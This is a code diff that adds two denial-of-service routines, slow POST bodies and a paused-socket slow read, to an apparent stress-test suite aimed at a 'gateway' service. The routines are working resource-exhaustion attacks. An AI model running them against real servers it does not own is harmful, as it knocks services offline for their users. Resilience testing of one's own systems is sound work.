@@ -92,10 +92,49 @@ const idleConnections: RunAttack = async ({ url, loops = 1_800 }, signal) => {
   return NOTHING;
 };
 
+/** Announces bodies and sends them slowly, so that their memory stays reserved. */
+const slowBodies: RunAttack = async ({ url, loops = 200 }, signal) => {
+  const head =
+    'POST /api/admin/x HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\nContent-Length: 102400\r\n\r\n{';
+  let sockets: (Socket | null)[] = [];
+  while (!signal.aborted) {
+    const alive = sockets.filter((socket) => socket?.writable);
+    const opened = Array.from({ length: Math.min(20, loops - alive.length) }, () => open(url));
+    const fresh = await Promise.all(opened);
+    for (const socket of fresh) socket?.write(head);
+    for (const socket of alive) socket?.write(' ');
+    sockets = [...alive, ...fresh];
+    await delay(100);
+  }
+  for (const socket of sockets) socket?.destroy();
+  return NOTHING;
+};
+
+const LARGE_PAGE = '/docs/openapi/scalar.js';
+
+/** Requests large pages, and starts to read all of them at the same time. */
+const unreadPages: RunAttack = async ({ url, loops = 80 }, signal) => {
+  const { status } = await fetch(`${url}${LARGE_PAGE}`, { method: 'HEAD' });
+  if (status !== 200) throw new Error(`The page ${LARGE_PAGE} returns ${status}.`);
+  while (!signal.aborted) {
+    const sockets = await Promise.all(Array.from({ length: loops }, () => open(url)));
+    for (const socket of sockets) {
+      socket?.pause().write(`GET ${LARGE_PAGE} HTTP/1.1\r\nHost: gateway\r\n\r\n`);
+    }
+    await delay(1_500);
+    for (const socket of sockets) socket?.resume();
+    await delay(1_500);
+    for (const socket of sockets) socket?.destroy();
+  }
+  return NOTHING;
+};
+
 export const RAW_CONNECTIONS = {
   oneByteChunks,
   pipelines,
   manyHeaders,
   simultaneousBodies,
   idleConnections,
+  slowBodies,
+  unreadPages,
 } satisfies Record<string, RunAttack>;
